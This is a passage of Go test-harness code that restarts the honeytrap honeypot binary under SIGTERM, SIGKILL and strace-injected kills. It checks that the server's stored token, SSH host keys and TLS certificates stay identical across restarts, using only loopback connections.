	return "scenario = one data directory and a history of starts of the real binary: (a) restart histories of length 2..5 with varying enabled services (ssh-simulator, ftp, smtp, ldap, telnet; agent listener in histories of its own), stopped by SIGTERM or SIGKILL; (b) every on-disk state of the token file a kill can leave: absent, empty, every proper prefix of a 20-character id (22 states, exhaustive), then two starts; (c) first starts killed at seeded instants (quick) or at the k-th openat/write/fsync/rename/mkdir syscall via strace (thorough), then two starts. Oracle: well-formed token, identity tuple equal across all later runs. Non-trivial = >=2 runs came up and at least the token was read from events; distinct by scenario parameters. Kills at the k-th system call that touches a file of the data directory discovered by tracing one complete first start (token, its temporary, the key-value store's directory and value log: every stored identity item is one write to it), k = 1..10 (path-kill), with all services enabled. ssh-auth is enabled as a second service of the ssh family (it shares the stored host key). store-prefix: after one complete start the key-value store is cut back to its first n items in the order they were written (n = 0..8, thorough 0..11), then three starts follow whose identities must agree. Two histories in which an ssh-auth service with a private key in its configuration joins the others for every second run."
}
func (prop) Assumptions() []string {
	return []string{"crash = process kill (SIGKILL); power loss (unsynced page cache) is not modelled", "a start that does not come up within 20 s is retried twice before it counts as 'does not come up'", "well-formed token = 20 characters of [0-9a-v] (the id generator's shape)"}
}

var tokenRE = regexp.MustCompile(`^[0-9a-v]{20}$`)

type run struct {
	Services []string `json:"services"`
	Stop     string   `json:"stop"`                      // term | kill
	KillAt   int      `json:"kill_at_ms,omitempty"`      // >0: SIGKILL this many ms after exec (interrupted start)
	KillSys  int      `json:"kill_at_syscall,omitempty"` // >0: strace-injected SIGKILL at the k-th matching syscall
	// >0: the injected SIGKILL is restricted (strace -P) to system calls that touch the KillPath-th identity
	// file of the data directory, as discovered by tracing one complete first start; KillSys counts those
	KillPath int `json:"kill_at_access_to_identity_file,omitempty"`
	// KeepItems > 0: this (complete) start only fills the data directory; after it has been stopped, the key-value
	// store is cut back to the first KeepItems-1 items in the order they were written - the state a kill between
	// two writes of the first start leaves. The run itself is not judged.
	KeepItems int `json:"keep_first_items_of_store_plus_one,omitempty"`
}

type scenario struct {
	Kind     string `json:"kind"`                  // history | token-state | random-kill | syscall-kill | agent
	Token    string `json:"token_state,omitempty"` // "absent" | "" | prefix
	TokenSet bool   `json:"token_set,omitempty"`
	Runs     []run  `json:"runs"`
}

// ssh-auth is a second service of the ssh family: it shares the stored host key with ssh-simulator
var allSvc = []string{"telnet", "ssh-simulator", "ftp", "smtp", "ldap", "ssh-auth"}

func scenarios(tier string, seed int64) []scenario {
	var out []scenario
	nh, nk := 6, 10
	if tier == "thorough" {
		nh, nk = 40, 60
	}
	for i := 0; i < nh; i++ {
		r := core.NewRng(seed, "C18/hist", i)
		sc := scenario{Kind: "history"}
		for j := r.Range(2, 5); j > 0; j-- {
			svcs := []string{"telnet"}
			for _, s := range allSvc[1:] {
				if r.Chance(2, 3) {
					svcs = append(svcs, s)
				}
			}
			sc.Runs = append(sc.Runs, run{Services: svcs, Stop: r.PickS([]string{"term", "kill"})})
		}
		out = append(out, sc)
	}
	// a service of the ssh family on its own in the run that creates the data directory (its first clients arrive
	// together), joined by its sibling later
	nf := 3
	if tier == "thorough" {
		nf = 20
	}
	for i := 0; i < nf; i++ {
		first := []string{"ssh-simulator", "ssh-auth"}[i%2]
		out = append(out, scenario{Kind: "history", Runs: []run{
			{Services: []string{"telnet", first}, Stop: []string{"kill", "term"}[i%2]},
			{Services: []string{"telnet", "ssh-simulator", "ssh-auth"}, Stop: "term"},
			{Services: []string{"telnet", first}, Stop: "kill"}}})
	}
	// a sibling service that is given a key of its own in the configuration joins for one run: the stored identity of
	// the others is what it was before and after
	for i := 0; i < 2; i++ {
		first := []string{"telnet", "ssh-simulator"}
		if i == 1 {
			first = []string{"telnet", "ssh-simulator", "ftp"}
		}
		out = append(out, scenario{Kind: "history", Runs: []run{
			{Services: first, Stop: "term"},
			{Services: append(append([]string{}, first...), "ssh-auth+key"), Stop: []string{"kill", "term"}[i]},
			{Services: first, Stop: "term"},
			{Services: append(append([]string{}, first...), "ssh-auth+key"), Stop: "term"}}})
	}
	// agent listener histories
	for i := 0; i < 2; i++ {
		out = append(out, scenario{Kind: "agent", Runs: []run{{Stop: "term"}, {Stop: "kill"}, {Stop: "term"}}})
	}
	// synthesized token-file states
	id := "bq3v0a9ck7e1m5g2d8t0"
	out = append(out, scenario{Kind: "token-state", Token: "absent", Runs: []run{{Services: []string{"telnet"}, Stop: "kill"}, {Services: []string{"telnet"}, Stop: "term"}}})
	for n := 0; n < 20; n++ {
		out = append(out, scenario{Kind: "token-state", Token: id[:n], TokenSet: true, Runs: []run{{Services: []string{"telnet"}, Stop: "kill"}, {Services: []string{"telnet"}, Stop: "term"}}})
	}
	for i := 0; i < nk; i++ {
		r := core.NewRng(seed, "C18/kill", i)
		svcs := allSvc
		out = append(out, scenario{Kind: "random-kill", Runs: []run{{Services: svcs, KillAt: r.Range(1, 1500)}, {Services: svcs, Stop: "kill"}, {Services: svcs, Stop: "term"}}})
	}
	// kills at the k-th system call that touches an identity file (token, its temporary, ...): every
	// intermediate on-disk state of those files that a kill can leave, without naming the files here
	np, nk2 := 4, 10
	if tier == "thorough" {
		np, nk2 = 5, 16
	}
	for pi := 1; pi <= np; pi++ {
		for k := 1; k <= nk2; k++ {
			// all services: the key-value store's value log is one of the files, and every stored identity
			// item (host key, key and certificate of ftp, smtp, ldap) is one write to it
			svcs := allSvc
			out = append(out, scenario{Kind: "path-kill", Runs: []run{{Services: svcs, KillSys: k, KillPath: pi}, {Services: svcs, Stop: "kill"}, {Services: svcs, Stop: "term"}}})
		}
	}
	// the store cut back to its first n items (every prefix of the first start's writes), then three more starts:
	// what an interrupted first start leaves is completed by the next start and kept from then on
	nsp := 9
	if tier == "thorough" {
		nsp = 12
	}
	for n := 0; n < nsp; n++ {
		svcs := allSvc
		out = append(out, scenario{Kind: "store-prefix", Runs: []run{{Services: svcs, Stop: "term", KeepItems: n + 1}, {Services: svcs, Stop: []string{"kill", "term"}[n%2]}, {Services: svcs, Stop: "term"}, {Services: svcs, Stop: "term"}}})
	}
	if tier != "thorough" {
		// kills at the k-th file-system call of a thread of the first start (strace injection): the identity
		// files are written by the first few dozen, so the states a kill really leaves are covered without
		// naming them
		for k := 1; k <= 40; k++ {
			svcs := []string{"telnet"}
			out = append(out, scenario{Kind: "syscall-kill", Runs: []run{{Services: svcs, KillSys: k}, {Services: svcs, Stop: "kill"}, {Services: svcs, Stop: "term"}}})
		}
	}
	if tier == "thorough" {
		for k := 1; k <= 400; k += 1 {
			svcs := []string{"telnet", "ssh-simulator", "ftp"}
			out = append(out, scenario{Kind: "syscall-kill", Runs: []run{{Services: svcs, KillSys: k}, {Services: svcs, Stop: "kill"}, {Services: svcs, Stop: "term"}}})
		}
	}
	return out
}

// ---- running the real binary ----------------------------------------------------------------

type ports struct {
	Telnet, SSH, FTP, SMTP, LDAP, Agent, SSHAuth int
}

var portRng = rand.New(rand.NewSource(time.Now().UnixNano() ^ int64(os.Getpid())<<20))

// freePorts picks ports below the kernel's ephemeral range (so that no outgoing connection of this machine can
// take one as its source port) that are free right now. Another scenario running in parallel may still pick
// the same one later: a start that reports a bind failure is repeated with fresh ports (see runScenario).
func freePorts() ports {
	var ls []net.Listener
	get := func() int {
		for try := 0; try < 200; try++ {
			port := 10000 + portRng.Intn(22000) // (C08's real-socket scenarios stay below 10000)
			l, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port))
			if err != nil {
				continue
			}
			ls = append(ls, l)
			return port
		}
		return 0
	}
	p := ports{get(), get(), get(), get(), get(), get(), get()}
	for _, l := range ls {
		l.Close()
	}
	return p
}

func config(dir string, p ports, svcs []string, agent bool) string {
	var b strings.Builder
	if agent {
		fmt.Fprintf(&b, "[listener]\ntype=\"agent\"\nlisten=\"127.0.0.1:%d\"\n", p.Agent)
	} else {
		b.WriteString("[listener]\ntype=\"socket\"\n")
	}
	fmt.Fprintf(&b, "[channel.file]\ntype=\"file\"\nfilename=%q\n[[filter]]\nchannel=[\"file\"]\n", filepath.Join(dir, "events.log"))
	portOf := map[string]int{"telnet": p.Telnet, "ssh-simulator": p.SSH, "ftp": p.FTP, "smtp": p.SMTP, "ldap": p.LDAP, "ssh-auth": p.SSHAuth}
	for _, s := range svcs {
		extra := ""
		if s == "ftp" {
			extra = fmt.Sprintf("fs_base=%q\n", filepath.Join(dir, "ftproot"))
		}
		if s == "ssh-auth+key" {
			// an ssh-auth service that is given its host key in the configuration (the operator's own key)
			fmt.Fprintf(&b, "[service.sshauthkey]\ntype=\"ssh-auth\"\nprivate-key=\"\"\"%s\"\"\"\n[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"sshauthkey\"]\n", configuredKey(), p.SSHAuth)
			continue
		}
		fmt.Fprintf(&b, "[service.%s]\ntype=%q\n%s[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[%q]\n", s, s, extra, portOf[s], s)
	}
	return b.String()
}

var cfgKey string

// configuredKey is a host key an operator puts into the configuration (generated once per harness process).
func configuredKey() string {
	if cfgKey == "" {
		k, err := rsa.GenerateKey(crand.Reader, 2048)
		if err == nil {
			cfgKey = string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(k)}))
		}
	}
	return cfgKey
}

type proc struct {
	cmd  *exec.Cmd
	done chan struct{}
	out  string
}

func start(bin, dir string, cfg string, killSys int, killPath string) (*proc, error) {
	os.MkdirAll(filepath.Join(dir, "ftproot"), 0755)
	cfgPath := filepath.Join(dir, "config.toml")
	os.WriteFile(cfgPath, []byte(cfg), 0644)
	args := []string{bin, "-c", cfgPath, "-d", filepath.Join(dir, "data")}
	if killSys > 0 && killPath != "" {
		args = append([]string{"strace", "-f", "-o", "/dev/null", "-P", killPath, "-e", fmt.Sprintf("inject=all:signal=SIGKILL:when=%d", killSys)}, args...)
	} else if killSys > 0 {
		args = append([]string{"strace", "-f", "-o", "/dev/null", "-e", "trace=openat,write,fsync,fdatasync,rename,mkdir",
			"-e", fmt.Sprintf("inject=openat,write,fsync,fdatasync,rename,mkdir:signal=SIGKILL:when=%d", killSys)}, args...)
	}
	outPath := filepath.Join(dir, fmt.Sprintf("stdout-%d.txt", time.Now().UnixNano()))
	of, _ := os.Create(outPath)
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Stdout, cmd.Stderr = of, of
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	of.Close()
	p := &proc{cmd: cmd, done: make(chan struct{}), out: outPath}
	go func() { cmd.Wait(); close(p.done) }()
	return p, nil
}

func (p *proc) exited() bool {
	select {
	case <-p.done:
		return true
	default:
		return false
	}
}

func (p *proc) stop(how string) {
	if p.exited() {
		return
	}
	if how == "term" {
		syscall.Kill(-p.cmd.Process.Pid, syscall.SIGTERM)
		select {
		case <-p.done:
			return
		case <-time.After(3 * time.Second):
		}
	}
	syscall.Kill(-p.cmd.Process.Pid, syscall.SIGKILL)
	<-p.done
	p.gone()
}

// gone waits until no process of the group is left: under strace the traced server outlives the tracer for a
// moment, still holding the data directory's lock and its listening sockets.
func (p *proc) gone() {
	for i := 0; i < 500; i++ {
		if err := syscall.Kill(-p.cmd.Process.Pid, 0); err == syscall.ESRCH {
			return
		}
		syscall.Kill(-p.cmd.Process.Pid, syscall.SIGKILL)
		time.Sleep(10 * time.Millisecond)
	}
}

func waitPort(port int, p *proc, max time.Duration) bool {
	deadline := time.Now().Add(max)
	for time.Now().Before(deadline) {
		if p.exited() {
			return false
		}
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 200*time.Millisecond)
		if err == nil {
			// a dial to a loopback port nobody listens on yet can connect to itself when the kernel picks the
			// same ephemeral source port (TCP simultaneous open): that is not the server
			self := c.LocalAddr().String() == c.RemoteAddr().String()
			c.Close()
			if !self {
				// the answer must come from this process: one that has just exited did not give it
				time.Sleep(30 * time.Millisecond)
				return !p.exited()
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	return false
}

// ownsListener tells whether the listening socket on the loopback port belongs to this server process (and not to a
// server of a scenario running beside this one that was given the same port number).
func ownsListener(p *proc, port int) bool {
	want := fmt.Sprintf("0100007F:%04X", port)
	b, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		return true // cannot tell: do not second-guess
	}
	inode := ""
	for _, ln := range strings.Split(string(b), "\n") {
		f := strings.Fields(ln)
		if len(f) > 9 && f[1] == want && f[3] == "0A" {
			inode = f[9]
		}
	}
	if inode == "" {
		return false
	}
	fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", p.cmd.Process.Pid))
	if err != nil {
		return false
	}
	for _, fd := range fds {
		if l, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", p.cmd.Process.Pid, fd.Name())); err == nil && l == "socket:["+inode+"]" {
			return true
		}
	}
	return false
}

// waitListening waits until the kernel shows a listening socket on the loopback port, without connecting to
// it (the first connections a service sees are part of what is observed).
func waitListening(port int, p *proc, max time.Duration) bool {
	want := fmt.Sprintf("0100007F:%04X", port)
	deadline := time.Now().Add(max)
	for time.Now().Before(deadline) {
		if p.exited() {
			return false
		}
		if b, err := os.ReadFile("/proc/net/tcp"); err == nil {
			for _, ln := range strings.Split(string(b), "\n") {
				f := strings.Fields(ln)
				if len(f) > 3 && f[1] == want && f[3] == "0A" {
					return true
				}
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

// ---- identity readers -------------------------------------------------------------------------

// lastErr holds why the last identity read of this child failed (diagnostics only).
var lastErr string

func note(format string, a ...interface{}) string {
	lastErr = fmt.Sprintf(format, a...)
	return ""
}

func fp(b []byte) string { h := sha256.Sum256(b); return hex.EncodeToString(h[:8]) }

func readSSHKey(port int) string {
	var key string
	cfg := &ssh.ClientConfig{User: "x", Auth: []ssh.AuthMethod{ssh.Password("y")}, Timeout: 5 * time.Second,
		HostKeyCallback: func(h string, r net.Addr, k ssh.PublicKey) error { key = fp(k.Marshal()); return nil }}
	c, err := ssh.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port), cfg)
	if err == nil {
		c.Close()
	} else if key == "" {
		note("ssh dial: %v", err)
	}
	return key
}

func tlsCert(c net.Conn) string {
	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	if err := tc.Handshake(); err != nil {
		return note("tls handshake: %v", err)
	}
	cs := tc.ConnectionState()
	if len(cs.PeerCertificates) == 0 {
		return ""
	}
	return fp(cs.PeerCertificates[0].Raw)
}

func lineConn(port int) (net.Conn, *bufio.Reader, error) {
	c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 3*time.Second)
	if err != nil {
		return nil, nil, err
	}
	c.SetDeadline(time.Now().Add(6 * time.Second))
	return c, bufio.NewReader(c), nil
}

func readFTPCert(port int) string {
	c, br, err := lineConn(port)
	if err != nil {
		return note("dial: %v", err)
	}
	defer c.Close()
	b0, err0 := br.ReadString('\n')
	fmt.Fprintf(c, "AUTH TLS\r\n")
	l, err := br.ReadString('\n')
	if !strings.HasPrefix(l, "234") {
		return note("ftp: banner %q (%v), AUTH TLS answered %q (%v)", b0, err0, l, err)
	}
	return tlsCert(c)
}

func readSMTPCert(port int) string {
	c, br, err := lineConn(port)
	if err != nil {
		return note("dial: %v", err)
	}
	defer c.Close()
	b0, err0 := br.ReadString('\n')
	fmt.Fprintf(c, "EHLO id.test\r\n")
	for {
		l, err := br.ReadString('\n')
		if err != nil {
			return note("smtp: banner %q (%v), EHLO reply line %q (%v)", b0, err0, l, err)
		}
		if len(l) >= 4 && l[3] == ' ' {
			break
		}
	}
	fmt.Fprintf(c, "STARTTLS\r\n")
	l, err := br.ReadString('\n')
	if !strings.HasPrefix(l, "220") {
		return note("smtp: STARTTLS answered %q (%v)", l, err)
	}
	return tlsCert(c)
}

func readLDAPCert(port int) string {
	c, _, err := lineConn(port)
	if err != nil {
		return note("dial: %v", err)
	}
	defer c.Close()
	c.Write(gen.LDAPMsg(1, gen.BER(0x77, gen.BER(0x80, []byte("1.3.6.1.4.1.1466.20037")))))
	buf := make([]byte, 256)
	n, err := c.Read(buf)
	if n < 10 {
		return note("ldap: StartTLS answered %d bytes (%v)", n, err)
	}
	return tlsCert(c)
}

func touchTelnet(port int) {
	c, _, err := lineConn(port)
	if err != nil {
		return
	}
	c.Write([]byte("u\r\np\r\n"))
	time.Sleep(30 * time.Millisecond)
	c.Close()
}

var keyRE = regexp.MustCompile(`public key: ([0-9a-f]{64})`)

func tokensIn(path string, skip int) ([]string, int) {
	f, err := os.Open(path)
	if err != nil {
		return nil, skip
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	var out []string
	n := 0
	for sc.Scan() {
		n++
		if n <= skip {
			continue
		}
		var m map[string]interface{}
		if json.Unmarshal(sc.Bytes(), &m) != nil {
			continue
		}
		if t, ok := m["token"].(string); ok {
			out = append(out, t)
		} else {
			out = append(out, "!missing")
		}
	}
	return out, n
}

// ---- child ----------------------------------------------------------------------------------

type runObs struct {
	Up        bool              `json:"up"`
	Retries   int               `json:"retries"`
	Killed    bool              `json:"killed_during_start"`
	Identity  map[string]string `json:"identity"`
	Tokens    []string          `json:"tokens"` // distinct tokens seen in this run's events
	TokenFile string            `json:"token_file"`
	Tail      string            `json:"tail,omitempty"`
	PortClash int               `json:"port_clashes,omitempty"` // starts repeated because a port had been taken meanwhile
	KillPath  string            `json:"killed_at_access_to,omitempty"`
	Died      bool              `json:"died_before_ready,omitempty"`
}

type scnObs struct {
	Runs []runObs `json:"runs"`
}

var idPaths []string
var idPathsDone bool

// identityPaths traces one complete first start of the real binary on a scratch data directory and returns
// the files it touches there, other than the key-value store's own (sorted, relative to the data directory).
func identityPaths() []string {
	if idPathsDone {
		return idPaths
	}
	idPathsDone = true
	dir := filepath.Join(lab.WorkDir(), "discover")
	os.MkdirAll(filepath.Join(dir, "data"), 0755)
	defer os.RemoveAll(dir)
	p := freePorts()
	cfg := config(dir, p, allSvc, false)
	os.MkdirAll(filepath.Join(dir, "ftproot"), 0755)
	cfgPath := filepath.Join(dir, "config.toml")
	os.WriteFile(cfgPath, []byte(cfg), 0644)
	trace := filepath.Join(dir, "trace.txt")
	cmd := exec.Command("strace", "-f", "-o", trace, "-e", "trace=%file", binPath(), "-c", cfgPath, "-d", filepath.Join(dir, "data"))
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if cmd.Start() != nil {
		return nil
	}
	pr := &proc{cmd: cmd, done: make(chan struct{})}
	go func() { cmd.Wait(); close(pr.done) }()
	if waitPort(p.Telnet, pr, 20*time.Second) {
		time.Sleep(200 * time.Millisecond)
	}
	pr.stop("term") // a killed strace loses its buffered output
	pr.gone()
	b, _ := os.ReadFile(trace)
	prefix := filepath.Join(dir, "data") + "/"
	seen := map[string]bool{}
	for _, m := range regexp.MustCompile(regexp.QuoteMeta(prefix)+`([^"/]+|badger\.db/[^"/]+\.vlog)"`).FindAllSubmatch(b, -1) {
		rel := string(m[1])
		if seen[rel] {
			continue
		}
		seen[rel] = true
		idPaths = append(idPaths, rel)
	}
	sort.Strings(idPaths)
	fmt.Fprintf(os.Stderr, "identityPaths: %v (trace of %d bytes, prefix %s)\n", idPaths, len(b), prefix)
	if len(idPaths) == 0 && len(b) > 1500 {
		fmt.Fprintf(os.Stderr, "trace tail: %s\n", b[len(b)-1500:])
	}
	return idPaths
}

func binPath() string { return filepath.Join(core.BuildDir(), "honeytrap") }

func runScenario(k int, sc scenario) scnObs {
	var ob scnObs
	dir := filepath.Join(lab.WorkDir(), fmt.Sprintf("id%d", k))
	os.MkdirAll(filepath.Join(dir, "data"), 0755)
	defer os.RemoveAll(dir)
	if sc.Kind == "token-state" && sc.TokenSet {
		os.WriteFile(filepath.Join(dir, "data", "token"), []byte(sc.Token), 0600)
	}
	p := freePorts()
	agentKey := ""
	skip := 0
	for _, r := range sc.Runs {
		ro := runObs{Identity: map[string]string{}}
		cfg := config(dir, p, r.Services, sc.Kind == "agent")
		readyPort := p.Telnet
		if sc.Kind == "agent" {
			readyPort = p.Agent
		}
		if r.KillAt > 0 || r.KillSys > 0 {
			killPath := ""
			if r.KillPath > 0 {
				paths := identityPaths()
				if r.KillPath > len(paths) {
					return scnObs{} // no such file: nothing to run
				}
				killPath = filepath.Join(dir, "data", paths[r.KillPath-1])
				ro.KillPath = paths[r.KillPath-1]
			}
			pr, err := start(binPath(), dir, cfg, r.KillSys, killPath)
			if err == nil {
				if r.KillAt > 0 {
					time.Sleep(time.Duration(r.KillAt) * time.Millisecond)
					ro.Died = pr.exited()
					pr.stop("kill")
				} else {
					// the injected kill ends the process; if the server comes up instead, the k-th call
					// was not part of the start-up and the run is an ordinary killed run
					if waitPort(readyPort, pr, 8*time.Second) {
						time.Sleep(100 * time.Millisecond)
					}
					ro.Died = pr.exited()
					pr.stop("kill")
					pr.gone()
				}
			}
			ro.Killed = true
			tf, _ := os.ReadFile(filepath.Join(dir, "data", "token"))
			ro.TokenFile = string(tf)
			_, skip = tokensIn(filepath.Join(dir, "events.log"), 0)
			ob.Runs = append(ob.Runs, ro)
			continue
		}
		var pr *proc
		for attempt := 0; attempt < 6; attempt++ {
			var err error
			pr, err = start(binPath(), dir, cfg, 0, "")
			if err != nil {
				continue
			}
			up := waitPort(readyPort, pr, 20*time.Second)
			clash := false
			if up && !ownsListener(pr, readyPort) {
				// something answers on the port, and it is not this process (not yet, or never): give it two
				// seconds to get there or to report that the port is taken
				clash = true
				for w := 0; w < 100 && clash; w++ {
					if b, _ := os.ReadFile(pr.out); bytes.Contains(b, []byte("address already in use")) || pr.exited() {
						break
					}
					time.Sleep(20 * time.Millisecond)
					clash = !ownsListener(pr, readyPort)
				}
			}
			if b, _ := os.ReadFile(pr.out); clash || bytes.Contains(b, []byte("address already in use")) {
				// a port of this scenario was taken (by a scenario running in parallel) between two of its
				// runs: the server runs without that listener and whatever answers on the port is not it.
				// Harness matter: same data directory, fresh ports, once more
				pr.stop("kill")
				p = freePorts()
				cfg = config(dir, p, r.Services, sc.Kind == "agent")
				readyPort = p.Telnet
				if sc.Kind == "agent" {
					readyPort = p.Agent
				}
				ro.PortClash++
				continue
			}
			if up {
				ro.Up = true
				break
			}
			ro.Retries++
			b, _ := os.ReadFile(pr.out)
			if len(b) > 600 {
				b = b[len(b)-600:]
			}
			ro.Tail = string(b)
			pr.stop("kill")
		}
		if !ro.Up {
			ob.Runs = append(ob.Runs, ro)
			continue
		}
		if sc.Kind == "agent" {
			b, _ := os.ReadFile(pr.out)
			if m := keyRE.FindSubmatch(b); m != nil {
				ro.Identity["agent-key-printed"] = string(m[1])
				if agentKey == "" {
					agentKey = string(m[1])
				}
			}
			// a handshake with the key remembered from the first run only completes if the key is unchanged
			raw, _ := hex.DecodeString(agentKey)
			c, err := libdisco.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", p.Agent), &libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: raw})
			ok := false
			if err == nil {
				c.SetDeadline(time.Now().Add(4 * time.Second))
				// send the agent handshake message and expect the response frame
				hs := []byte{1, 0}
				for _, s := range []string{"v", "c", "cc", "t"} {
					hs = append(hs, byte(len(s)), 0)
					hs = append(hs, s...)
				}
				c.Write([]byte{2})
				c.Write([]byte{byte(len(hs)), byte(len(hs) >> 8)})
				c.Write(hs)
				buf := make([]byte, 1)
				if n, err := c.Read(buf); err == nil && n == 1 && buf[0] == 3 {
					ok = true
				}
				c.Close()
			}
			ro.Identity["agent-key-handshake-with-first-key"] = fmt.Sprint(ok)
		} else {
			portOf := map[string]int{"ssh-simulator": p.SSH, "ftp": p.FTP, "smtp": p.SMTP, "ldap": p.LDAP, "ssh-auth": p.SSHAuth, "ssh-auth+key": p.SSHAuth}
			readers := map[string]func(int) string{"ssh-simulator": readSSHKey, "ftp": readFTPCert, "smtp": readSMTPCert, "ldap": readLDAPCert, "ssh-auth": readSSHKey, "ssh-auth+key": readSSHKey}
			names := map[string]string{"ssh-simulator": "ssh-host-key", "ftp": "ftp-cert", "smtp": "smtp-cert", "ldap": "ldap-cert", "ssh-auth": "ssh-auth-host-key", "ssh-auth+key": "ssh-auth-configured-key"}
			for _, s := range r.Services {
				rd := readers[s]
				if rd == nil {
					continue
				}
				// the listener opens its ports one after the other: wait for this one too, and read again
				// if the first read raced the start-up
				waitListening(portOf[s], pr, 10*time.Second)
				v := ""
				if s == "ssh-simulator" || s == "ssh-auth" {
					// the first clients of a run arrive together: they must all be shown the same key
					var wg sync.WaitGroup
					ks := make([]string, 3)
					for ci := range ks {
						wg.Add(1)
						go func(ci int) { defer wg.Done(); ks[ci] = rd(portOf[s]) }(ci)
					}
					wg.Wait()
					seen := map[string]bool{}
					var uniq []string
					for _, k := range ks {
						if k != "" && !seen[k] {
							seen[k] = true
							uniq = append(uniq, k)
						}
					}
					sort.Strings(uniq)
					v = strings.Join(uniq, "|")
				}
				for try := 0; try < 5 && v == ""; try++ {
					if try > 0 {
						time.Sleep(time.Duration(300<<uint(try-1)) * time.Millisecond)
					}
					v = rd(portOf[s])
				}
				ro.Identity[names[s]] = v
				if v == "" {
					ro.Tail += fmt.Sprintf("[%s: %s alive=%v] ", names[s], lastErr, !pr.exited())
				}
			}
			// events reach the file after the channel's one-second flush; touch the telnet service until
			// this run's events show up (bounded: 5 rounds of 4 s)
			for round := 0; round < 5; round++ {
				touchTelnet(p.Telnet)
				found := false
				for w := 0; w < 40 && !found; w++ {
					ts, _ := tokensIn(filepath.Join(dir, "events.log"), skip)
					found = len(ts) > 0
					if !found {
						time.Sleep(100 * time.Millisecond)
					}
				}
				if found {
					break
				}
			}
			ts, n := tokensIn(filepath.Join(dir, "events.log"), skip)
			skip = n
			seen := map[string]bool{}
			for _, t := range ts {
				if !seen[t] {
					seen[t] = true
					ro.Tokens = append(ro.Tokens, t)
				}
			}
			sort.Strings(ro.Tokens)
			if len(ro.Tokens) == 0 {
				// diagnostics for the oracle's "no token" rule
				st, _ := os.Stat(filepath.Join(dir, "events.log"))
				var size int64 = -1
				if st != nil {
					size = st.Size()
				}
				b, _ := os.ReadFile(pr.out)
				if len(b) > 500 {
					b = b[len(b)-500:]
				}
				ro.Tail = fmt.Sprintf("alive=%v events.log=%d bytes lines-skipped=%d lines-now=%d stdout-tail=%q", !pr.exited(), size, skip, n, string(b))
			}
		}
		tf, _ := os.ReadFile(filepath.Join(dir, "data", "token"))
		ro.TokenFile = string(tf)
		pr.stop(r.Stop)
		if r.KeepItems > 0 {
			pr.gone()
			total, err := trimStore(filepath.Join(dir, "data"), r.KeepItems-1)
			if err != nil || r.KeepItems-1 >= total {
				return scnObs{} // the store has no such prefix (or could not be opened): nothing to judge
			}
			ro.Killed = true // not judged: the runs that follow are
			ro.Tail = fmt.Sprintf("store cut back to the first %d of %d items", r.KeepItems-1, total)
			_, skip = tokensIn(filepath.Join(dir, "events.log"), 0)
		}
		ob.Runs = append(ob.Runs, ro)
	}
	return ob
}

// trimStore opens the key-value store of a stopped server and deletes every item but the first keep ones, in the
// order they were written (commit versions). It returns the number of items found.
func trimStore(dataDir string, keep int) (int, error) {
	opts := badger.DefaultOptions
	opts.Dir = filepath.Join(dataDir, "badger.db")
	opts.ValueDir = opts.Dir
	for _, fn := range storage.PlatformOptions {
		fn(&opts)
	}
	db, err := badger.Open(opts)
	if err != nil {
		return 0, err
	}
	defer db.Close()
	type kv struct {
		key []byte
		ver uint64
	}
	var items []kv
	db.View(func(txn *badger.Txn) error {
		it := txn.NewIterator(badger.DefaultIteratorOptions)
		defer it.Close()
		for it.Rewind(); it.Valid(); it.Next() {
			items = append(items, kv{append([]byte(nil), it.Item().Key()...), it.Item().Version()})
		}
		return nil
	})
	sort.Slice(items, func(a, b int) bool { return items[a].ver < items[b].ver })
	for i := keep; i < len(items); i++ {
		k := items[i].key
		if err := db.Update(func(txn *badger.Txn) error { return txn.Delete(k) }); err != nil {
			return len(items), err
		}
	}
	return len(items), nil
}

type params struct {
	Off int `json:"off"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	all := scenarios(tier, seed)
	chunks := 14
	per := (len(all) + chunks - 1) / chunks
	var plan []core.Batch
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > len(all) {
			n = len(all) - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("part/%d", c), N: n, Params: p, Timeout: 3000})
	}
	return plan
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
		o.Begin(k)
		o.EmitX("scn", runScenario(p.Off+k, all[p.Off+k]))
		o.End(k)
	}
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	var out []core.Result
	for _, r := range recs {
		if r.T != "scn" {
			continue
		}
		var ob scnObs
		if r.XInto(&ob) != nil {
			continue
		}
		sc := all[p.Off+r.K]
		res := core.Result{K: r.K, Verdict: core.Held}
		fail := func(rule, what string) {
			if res.Verdict == core.Violated {
				return
			}
			res.Verdict = core.Violated
			res.Sig = "C18|" + rule
			res.What = what
			res.Witness = map[string]interface{}{"scenario": sc, "observed": ob}
		}
		first := map[string]string{}
		firstRun := map[string]int{}
		ups := 0
		tokenSeen := false
		stateClass := sc.Kind
		if sc.Kind == "token-state" {
			switch {
			case !sc.TokenSet:
				stateClass += "|absent"
